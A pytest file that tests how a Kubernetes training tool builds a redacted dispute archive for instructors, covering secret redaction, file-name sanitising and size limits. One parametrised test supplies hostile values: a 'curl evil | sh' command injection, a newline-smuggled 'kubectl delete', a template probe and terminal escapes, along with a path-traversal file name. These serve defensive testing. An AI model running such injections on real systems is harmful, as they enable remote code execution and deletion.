"""The archive for an instructor: everything that helps to judge, and nothing secret."""

import base64
import datetime
import io
import json
import os
import socket
import stat
import zipfile
from pathlib import Path
from typing import Any

import pytest

from clusterdojo.attempt.model import Attempt, AttemptRecord
from clusterdojo.attempt.setup_state import write_recording
from clusterdojo.attempt.store import Store
from clusterdojo.cluster.client import Object
from clusterdojo.cluster.inventory import Recording
from clusterdojo.cluster.transport import Access
from clusterdojo.errors import ContainerEngineError, UsageError
from clusterdojo.grading.criteria import weigh
from clusterdojo.grading.redaction import LAST_APPLIED
from clusterdojo.grading.result import Result, after_check, lab_digest
from clusterdojo.lab.loading import load_lab
from clusterdojo.lab.scaffold import scaffold
from clusterdojo.lab.suite import Suite
from clusterdojo.lab.values import Drawn
from clusterdojo.node.reader import NodeReader
from clusterdojo.node.shell import Ran
from clusterdojo.reporting import dispute_live, dispute_work
from clusterdojo.reporting.dispute import archive
from clusterdojo.reporting.dispute_work import LARGEST, MOST_FILES
from clusterdojo.seal import Key
from tests.api_server import ApiServer
from tests.objects import node, pod, workload

LAB = "demo"
STARTED = datetime.datetime(2026, 1, 1, 12, tzinfo=datetime.UTC)
SECRET, OLD_SECRET, VARIABLE, KEY = "corr3ct-horse", "0ld-horse-gone", "var-battery", "K3YMATERIAL"
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{KEY}{'x' * 60}\n-----END RSA PRIVATE KEY-----\n"


def encoded(text: str) -> str:
    """In base64, as Secrets have it."""
    return base64.b64encode(text.encode()).decode()


PLANTED = {
    text
    for plain in (SECRET, OLD_SECRET, VARIABLE, KEY, PEM, PEM.strip())
    for text in (plain, encoded(plain))
}


def secret(name: str, value: str) -> Object:
    """A Secret as `kubectl apply` leaves it; lists give no kind."""
    data = {"password": encoded(value), "namespace": encoded("kube-system")}
    applied = {"kind": "Secret", "metadata": {"name": name}, "data": data}
    return {
        "metadata": {
            "name": name,
            "namespace": "shop",
            "annotations": {LAST_APPLIED: json.dumps(applied)},
        },
        "type": "Opaque",
        "data": data,
    }


@pytest.fixture
def suite(own_suite: Suite) -> Suite:
    """A suite with one lab."""
    scaffold(own_suite, LAB)
    return own_suite


@pytest.fixture
def store(tmp_path: Path) -> Store:
    """A store without attempts."""
    return Store(tmp_path / "state")


def attempted(
    store: Store,
    suite: Suite,
    number: int = 1,
    lab: str = LAB,
    key: Key | None = None,
    values: dict[str, Drawn] | None = None,
) -> Attempt:
    """An attempt that was checked once and has ended: its result alone is there."""
    record = AttemptRecord(
        id=f"20260101-12000{number}-{lab}-ab12",
        lab=lab,
        engine="kwok",
        seed=number,
        values=values or load_lab(suite.lab_dir(LAB)).draw(number),
        clusters=["cluster1"],
        settle_seconds=1,
        started=STARTED,
        phase="ready",
        learner="Ada\u202e <b>",
        title="Demo lab",
        domain="workloads",
        minutes=5,
    )
    attempt = Attempt(store.attempts / record.id, record)
    digest = lab_digest(suite, LAB)
    path = store.result(record.id)
    result = after_check(path, attempt, digest, weigh([]), [])
    ended = STARTED + datetime.timedelta(minutes=number)
    content = result.model_copy(update={"ended": ended}).model_dump(mode="json")
    if key is not None:
        content["seal"] = key.seal(content).model_dump()
    path.write_text(json.dumps(content, indent=2) + "\n")
    return attempt


@pytest.fixture
def running(store: Store, suite: Suite, api_server: ApiServer) -> Attempt:
    """An attempt under way, whose cluster the API server holds, with secrets planted."""
    attempt = attempted(store, suite)
    attempt.save()
    attempt.task.write_text("# The task\n\nIn namespace `plum1`, …\n")
    folder = attempt.cluster_folder("cluster1")
    folder.mkdir(parents=True)
    Access(api_server.url, "", "", "").write(folder)
    api_server.hold("secrets", secret("db", SECRET))
    keys = {"tls.pem": PEM, "app.conf": f"password = {VARIABLE}\n", "colour": "blue"}
    config = {"metadata": {"name": "app", "namespace": "shop"}, "data": keys}
    api_server.hold("configmaps", config)
    variables = [{"name": "PASSWORD", "value": VARIABLE}, {"name": "COLOUR", "value": "green"}]
    containers = [{"name": "web", "image": "nginx:1.29", "env": variables}]
    fields = [{"manager": "kubectl-edit", "operation": "Update", "fieldsV1": {"f:x": {}}}]
    held = pod(spec={"containers": containers}, metadata={"managedFields": fields})
    api_server.hold("pods", held)
    api_server.hold("deployments", workload("Deployment"))
    api_server.hold("nodes", node())
    before = {"secrets": [secret("old", OLD_SECRET)], "nodes": [node()]}
    write_recording(attempt.before, LAB, 7, {}, {"cluster1": Recording(before, {})})
    work = attempt.work
    work.mkdir()
    (work / "answer.txt").write_text(f"node01\nthe password was {SECRET}, before {OLD_SECRET}\n")
    (work / "key.txt").write_text(PEM)
    user = {"user": {"client-key-data": encoded(PEM)}}
    (work / "config").write_text(json.dumps({"kind": "Config", "users": [user]}))
    (work / "deep").mkdir()
    manifest = f"kind: Secret\nstringData:\n  any: {VARIABLE}\n---\nkind: Pod\nspec: {{}}\n"
    (work / "deep" / "secret.yaml").write_text(manifest)
    return attempt


def unpacked(path: Path) -> dict[str, str]:
    """The archive's members as text."""
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as file:
        assert file.testzip() is None
        return {name: file.read(name).decode() for name in file.namelist()}


def archived(store: Store, suite: Suite, tmp_path: Path) -> dict[str, str]:
    """What `dojo report dispute demo` writes."""
    names = archive(store, suite, LAB, tmp_path / "dispute.zip")
    found = unpacked(tmp_path / "dispute.zip")
    assert list(found) == names
    return found


# Nothing secret


@pytest.mark.usefixtures("running")
def test_no_planted_secret_is_anywhere_in_it(store: Store, suite: Suite, tmp_path: Path) -> None:
    """Neither plain nor in base64, in no member, whatever of cluster and files it came from."""
    found = archived(store, suite, tmp_path)
    for name, text in found.items():
        hits = {planted for planted in PLANTED if planted in text}
        assert hits == set(), name
        assert json.dumps(PEM)[1:-1] not in text
    assert LAST_APPLIED not in found["live/cluster1.json"]
    assert {"work/answer.txt", "work/key.txt", "work/config", "work/deep/secret.yaml"} <= set(found)


@pytest.mark.usefixtures("running")
def test_what_is_no_secret_can_be_read(store: Store, suite: Suite, tmp_path: Path) -> None:
    """State, names, who wrote what, and the learner's answers are there to be judged."""
    found = archived(store, suite, tmp_path)
    live = json.loads(found["live/cluster1.json"])["objects"]
    assert live["secrets"][0]["data"] == dict.fromkeys(("password", "namespace"), "(redacted)")
    assert live["configmaps"][0]["data"]["colour"] == "blue"
    assert live["pods"][0]["spec"]["containers"][0]["env"][1]["value"] == "green"
    managers = [{"manager": "kubectl-edit", "operation": "Update"}]
    assert live["pods"][0]["metadata"]["managers"] == managers
    assert live["deployments"][0]["status"]["readyReplicas"] == 2
    start = json.loads(found["start/cluster1.json"])["objects"]
    assert start["secrets"][0]["metadata"]["name"] == "old"
    assert found["work/answer.txt"].startswith("node01\nthe password was (redacted)")
    assert "kind: Pod" in found["work/deep/secret.yaml"]


def test_a_secret_called_as_an_object_hides_no_name(
    running: Attempt, store: Store, suite: Suite, api_server: ApiServer, tmp_path: Path
) -> None:
    """A Secret that holds the name of a deployment would blank the whole state."""
    api_server.hold("secrets", secret("names", "storefront"))
    api_server.hold("deployments", workload("Deployment", "storefront"))
    (running.work / "answer.txt").write_text("storefront\n")
    found = archived(store, suite, tmp_path)
    assert found["work/answer.txt"] == "storefront\n"
    assert '"name": "storefront"' in found["live/cluster1.json"]


# Results, task, checks


def test_results_are_there_byte_for_byte_latest_first(
    store: Store, suite: Suite, tmp_path: Path
) -> None:
    """Their seals hold still, so that the instructor can check them."""
    key = Key.make(tmp_path / "key")
    attempts = [attempted(store, suite, number, key=key) for number in (2, 3, 1)]
    attempted(store, suite, 4, lab="other")
    found = archived(store, suite, tmp_path)
    results = [name for name in found if name.startswith("results/")]
    ids = sorted((attempt.record.id for attempt in attempts), reverse=True)
    assert results == [f"results/{name}.json" for name in ids]
    for name in results:
        assert found[name].encode() == store.result(Path(name).stem).read_bytes()
        assert key.state(json.loads(found[name])) == "genuine"
    assert found["README.txt"].count("with a seal") == 3


def test_an_ended_attempt_has_its_task_from_the_lab(
    store: Store, suite: Suite, tmp_path: Path
) -> None:
    """With the values of the latest result; what ended with the attempt is said."""
    attempted(store, suite, 1)
    attempted(store, suite, 2)
    found = archived(store, suite, tmp_path)
    assert f"namespace `{load_lab(suite.lab_dir(LAB)).draw(2)['namespace']}`" in found["task.md"]
    assert found["checks/test_demo.py"] == suite.check_module(LAB).read_text()
    assert "the attempt has ended" in found["README.txt"]
    assert not [name for name in found if name.startswith(("work/", "live/", "start/"))]


@pytest.mark.parametrize(
    "namespace",
    ["shop; curl evil | sh", "{{ lipsum }}", "plum\nkubectl delete", "\x1b[2J", ["plum"]],
)
def test_a_task_is_not_rendered_with_values_that_the_lab_can_not_draw(
    store: Store, suite: Suite, tmp_path: Path, namespace: Drawn
) -> None:
    """Whoever judges would copy what a learner has written; the README says what is wrong."""
    attempted(store, suite, values={"namespace": namespace})
    found = archived(store, suite, tmp_path)
    assert "task.md" not in found
    why = "task.md: The lab's text is not shown with the values of this result: its value namespace"
    assert why in found["README.txt"]


def test_a_results_name_leads_nowhere_when_it_is_unpacked(
    store: Store, suite: Suite, tmp_path: Path
) -> None:
    """Neither on Windows nor on the terminal that lists the archive."""
    attempt = attempted(store, suite)
    path = store.result(attempt.record.id)
    path.rename(path.with_name("..\\..\\x\x1b[2J:y-demo-1.json"))
    found = archived(store, suite, tmp_path)
    assert [name for name in found if name.startswith("results/")] == [
        "results/.._.._x\N{REPLACEMENT CHARACTER}[2J_y-demo-1.json"
    ]


@pytest.mark.usefixtures("running")
def test_a_running_attempt_has_its_own_task(store: Store, suite: Suite, tmp_path: Path) -> None:
    """As the learner reads it."""
    assert archived(store, suite, tmp_path)["task.md"].startswith("# The task\n")


def test_a_running_attempt_is_judged_by_the_checks_of_its_own_suite(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """Whatever suite the shell has that asks; where it is gone, that is said."""
    running.record.suite = str(suite.root)
    running.save()
    other = Suite(tmp_path / "other")
    checks = suite.check_module(LAB).read_text()
    assert archived(store, other, tmp_path)["checks/test_demo.py"] == checks
    suite.root.rename(tmp_path / "elsewhere")
    readme = archived(store, other, tmp_path)["README.txt"]
    assert f"checks/: The lab {LAB}, which is running, is not in" in readme


def test_an_attempt_that_was_never_checked_has_an_archive(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """A learner may dispute that it can't be checked at all."""
    store.result(running.record.id).unlink()
    found = archived(store, suite, tmp_path)
    assert "never checked" in found["README.txt"]
    assert "live/cluster1.json" in found


def test_a_changed_lab_is_said(store: Store, suite: Suite, tmp_path: Path) -> None:
    """Nobody judges by other checks than those that graded, without knowing."""
    attempted(store, suite)
    assert "has changed since" not in archived(store, suite, tmp_path)["README.txt"]
    with suite.check_module(LAB).open("a") as file:
        file.write("# changed\n")
    assert "has changed since" in archived(store, suite, tmp_path)["README.txt"]


def test_a_lab_that_is_gone_is_said(store: Store, suite: Suite, tmp_path: Path) -> None:
    """The results can be judged all the same."""
    attempted(store, suite)
    (suite.labs / LAB).rename(suite.labs / "gone")
    suite.check_module(LAB).unlink()
    found = archived(store, suite, tmp_path)
    assert [name for name in found if name.startswith("results/")]
    assert "task.md: There is no lab called 'demo'" in found["README.txt"]
    assert "checks/test_demo.py: it can't be read" in found["README.txt"]


def test_broken_results_are_said(store: Store, suite: Suite, tmp_path: Path) -> None:
    """A file that is no result is named, and keeps no archive from being made."""
    attempt = attempted(store, suite)
    for name, text in (("x-demo-1.json", "{"), ("y-demo-1.json", "[]"), ("z-else-1.json", "{")):
        (store.results / name).write_text(text)
    (store.results / "w-demo-1.json").write_text("[" * 100_000)
    content = json.loads(store.result(attempt.record.id).read_text())
    Result.model_validate(content)
    readme = archived(store, suite, tmp_path)["README.txt"]
    for name in ("w-demo-1.json", "x-demo-1.json", "y-demo-1.json"):
        assert f"results/{name}: it can't be read as a result." in readme
    assert "z-else" not in readme


def test_the_readme_names_every_member(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """And no text in it, such as a learner's name, breaks its lines or hides others."""
    (running.work / "a\nb\\..\\c.txt").write_text("x")
    found = archived(store, suite, tmp_path)
    for name in found:
        assert name == "README.txt" or f"  {name}: " in found["README.txt"]
    assert "work/a_b_.._c.txt" in found
    assert "Learner: Ada" in found["README.txt"]


# What does not answer


def test_a_cluster_that_does_not_answer_is_said(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """With what the engine knows of it; everything else is there."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{probe.getsockname()[1]}"
    Access(url, "", "", "").write(running.cluster_folder("cluster1"))
    found = archived(store, suite, tmp_path)
    assert "live/cluster1.json" not in found
    assert "cluster1 does not answer: etcd has ended." in found["README.txt"]
    assert {"work/answer.txt", "start/cluster1.json"} <= set(found)


@pytest.mark.usefixtures("running")
def test_a_kind_that_is_refused_is_said(
    store: Store, suite: Suite, api_server: ApiServer, tmp_path: Path
) -> None:
    """The others are read."""
    api_server.statuses["/api/v1/configmaps"] = 503
    found = archived(store, suite, tmp_path)
    live = json.loads(found["live/cluster1.json"])["objects"]
    assert "configmaps" not in live
    assert live["pods"]
    assert "no configmaps: 503" in found["README.txt"]


def test_a_lost_start_state_is_said(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """It is one file of many."""
    running.before.write_text("{")
    found = archived(store, suite, tmp_path)
    assert "the start state can't be read" in found["README.txt"]
    assert "live/cluster1.json" in found


def test_a_broken_attempt_keeps_no_result_back(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """attempt.json may be what the dispute is about."""
    (running.folder / "attempt.json").write_text("{")
    found = archived(store, suite, tmp_path)
    assert f"results/{running.record.id}.json" in found
    assert "the attempt under way can't be read" in found["README.txt"]


# Nodes


class Paper(NodeReader):
    """A node whose answers are written down, by the program or script that is asked."""

    def __init__(self) -> None:
        super().__init__([])

    def read(self, *argv: str, seconds: float = 0) -> Ran:
        """A kubelet that runs."""
        assert seconds >= 0
        show = "LoadState=loaded\nActiveState=active\nSubState=running\nMainPID=7\n"
        said = {"systemctl": show, "cat": "100.0 50.0\n", "dpkg-query": "hi |1.35.4-1.1"}
        return Ran(0, said[argv[0]].encode(), b"")

    def script(self, text: str, *arguments: str, seconds: float = 0) -> Ran:
        """One static pod, with a password among its variables."""
        assert seconds >= 0
        if "cmdline" in text:
            line = "==> /proc/7/cmdline <==\n/usr/bin/kubelet\0"
            return Ran(0, f"{line}\0\0\n7 (kubelet) {' 0' * 30}\n".encode(), b"")
        if "--version" in text:
            return Ran(0, b"Kubernetes v1.35.4\n", b"")
        if arguments == ("/etc/kubernetes/manifests",):
            env = f"env:\n- name: PASSWORD\n  value: {VARIABLE}\n"
            manifest = f"kind: Pod\nmetadata: {{name: etcd}}\nspec:\n  {env}"
            row = f"/etc/kubernetes/manifests/etcd.yaml\0001\0{len(manifest)}\0{manifest}\0"
            return Ran(0, row.encode(), b"")
        config = "staticPodPath: /etc/kubernetes/manifests\n"
        row = f"/var/lib/kubelet/config.yaml\0001\0{len(config)}\0{config}\0"
        return Ran(0, row.encode(), b"")


class RealNodes:
    """An engine whose nodes have an inside."""

    real_nodes = True

    def __init__(self, error: Exception | None = None) -> None:
        self._error = error

    def fault(self, folder: Path) -> None:
        """Nothing is wrong with it."""
        assert folder.name == "cluster1"

    def nodes(self, folder: Path) -> Any:
        """The way in, or none."""
        assert folder.name == "cluster1"
        if self._error:
            raise self._error
        return self

    def command(self, name: str) -> list[str]:
        """Never run: the reader is of paper."""
        assert name == "node01"
        return []

    def programs(self) -> dict[str, Any]:
        """Nobody knows."""
        return {}


@pytest.mark.usefixtures("running")
def test_what_nodes_do_is_there(
    store: Store, suite: Suite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Services, versions, packages and static pods, read by the grader's own way, redacted."""
    monkeypatch.setattr(dispute_live, "engine", lambda _: RealNodes())
    monkeypatch.setattr("clusterdojo.grading.machines.NodeReader", lambda *_: Paper())
    found = archived(store, suite, tmp_path)
    text = found["live/cluster1-nodes/node01.json"]
    facts = json.loads(text)
    assert facts["services"]["kubelet"]["active"] is True
    assert facts["versions of what runs"] == {"kubelet": "1.35.4"}
    assert facts["packages"]["kubeadm"] == {"version": "1.35.4-1.1", "held": True}
    manifest = facts["static pod manifests"]["/etc/kubernetes/manifests/etcd.yaml"]
    assert "metadata: {name: etcd}" in manifest
    assert VARIABLE not in text


@pytest.mark.usefixtures("running")
def test_nodes_that_can_not_be_read_are_said(
    store: Store, suite: Suite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A container engine that hangs is no reason to have no archive."""
    error = ContainerEngineError("Docker does not answer.", "Start it.")
    monkeypatch.setattr(dispute_live, "engine", lambda _: RealNodes(error))
    found = archived(store, suite, tmp_path)
    assert "live/cluster1-nodes/node01.json: Docker does not answer." in found["README.txt"]
    assert "live/cluster1.json" in found


# The work folder


def test_only_text_within_limits_goes_in(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """No link is followed, no pipe waited for, no program or huge file packed; each is said."""
    work = running.work
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "private.txt").write_text("mine alone")
    (work / "link.txt").symlink_to(tmp_path / "outside" / "private.txt")
    (work / "linked").symlink_to(tmp_path / "outside")
    (work / "program").write_bytes(b"\x7fELF\x00\xff")
    (work / "nul.txt").write_bytes(b"a\0b")
    (work / "large.txt").write_text("x" * (LARGEST + 1))
    os.mkfifo(work / "pipe")
    found = archived(store, suite, tmp_path)
    readme = found["README.txt"]
    for name, why in (
        ("link.txt", "it is a link"),
        ("linked", "it is a link"),
        ("program", "it is not text"),
        ("nul.txt", "it is not text"),
        ("large.txt", "it is larger than 200 kB"),
        ("pipe", "it is not a file"),
    ):
        assert f"work/{name}" not in found
        assert f"work/{name}: {why}." in readme
    assert not any("mine alone" in text for text in found.values())


def test_many_files_are_cut_off(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """A folder of thousands of files makes no archive that nobody can open."""
    for number in range(MOST_FILES + 20):
        (running.work / f"many-{number:04}").write_text("x")
    found = archived(store, suite, tmp_path)
    assert sum(name.startswith("work/") for name in found) == MOST_FILES
    assert f"only {MOST_FILES} files are kept" in found["README.txt"]


def test_all_files_together_are_limited(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What comes too late is left out, and what is small still fits."""
    monkeypatch.setattr(dispute_work, "LARGEST_ALL", 2500)
    for number in range(5):
        (running.work / f"a-big-{number}").write_text("node01\n" * 100)
    (running.work / "b-small").write_text("x")
    found = archived(store, suite, tmp_path)
    assert [name for name in found if name.startswith("work/a-big")] == [
        f"work/a-big-{number}" for number in range(3)
    ]
    assert "work/a-big-3: all files together would be too large." in found["README.txt"]
    assert found["work/b-small"] == "x"


# The file


def test_the_archive_is_the_learners_alone(
    running: Attempt, store: Store, suite: Suite, tmp_path: Path
) -> None:
    """Mode 0600, beside nothing half-made, and without the instructor's key."""
    key = Key.make(running.seal_key)
    names = archive(store, suite, LAB, tmp_path / "dispute.zip")
    assert stat.S_IMODE((tmp_path / "dispute.zip").stat().st_mode) == 0o600
    assert [path.name for path in tmp_path.glob(".dispute*")] == []
    text = running.seal_key.read_text().strip()
    assert not any(text in member for member in unpacked(tmp_path / "dispute.zip").values())
    assert not [name for name in names if ".." in name or name.startswith("/")]
    assert key.id


def test_an_archive_that_can_not_be_written_is_told(
    store: Store, suite: Suite, tmp_path: Path
) -> None:
    """In two sentences; what was there before stays."""
    attempted(store, suite)
    with pytest.raises(UsageError, match="can't be written"):
        archive(store, suite, LAB, tmp_path / "nowhere" / "dispute.zip")
    (tmp_path / "folder").mkdir()
    with pytest.raises(UsageError, match="can't be written"):
        archive(store, suite, LAB, tmp_path / "folder")
    assert list(tmp_path.glob(".folder*")) == []


def test_a_lab_without_an_attempt_is_told(store: Store, suite: Suite, tmp_path: Path) -> None:
    """In two sentences, and no file is left."""
    scaffold(suite, "second")
    attempted(store, suite)
    with pytest.raises(UsageError) as caught:
        archive(store, suite, "second", tmp_path / "dispute.zip")
    assert caught.value.what == "There is no attempt at second here."
    assert "dojo start second" in caught.value.do
    with pytest.raises(UsageError, match="Did you mean second"):
        archive(store, suite, "secnd", tmp_path / "dispute.zip")
    assert not (tmp_path / "dispute.zip").exists()


def test_one_learners_attempts_are_handed_on_alone(
    suite: Suite, store: Store, tmp_path: Path
) -> None:
    """On a machine of several nobody gets the results of the others."""
    mine, others = attempted(store, suite), attempted(store, suite, 2)
    path = store.result(others.record.id)
    path.write_text(path.read_text().replace(json.dumps(others.record.learner), '"Ben"'))
    with pytest.raises(UsageError, match="attempts of 2 learners") as raised:
        archive(store, suite, LAB, tmp_path / "x.zip")
    assert "--learner: " in raised.value.do
    names = archive(store, suite, LAB, tmp_path / "x.zip", learner="ben")
    assert [name for name in names if name.startswith("results/")] == [f"results/{path.name}"]
    names = archive(store, suite, LAB, tmp_path / "x.zip", learner=mine.record.learner)
    assert f"results/{path.name}" not in names
    with pytest.raises(UsageError, match="no attempt of Cy at that lab"):
        archive(store, suite, LAB, tmp_path / "x.zip", learner="Cy")
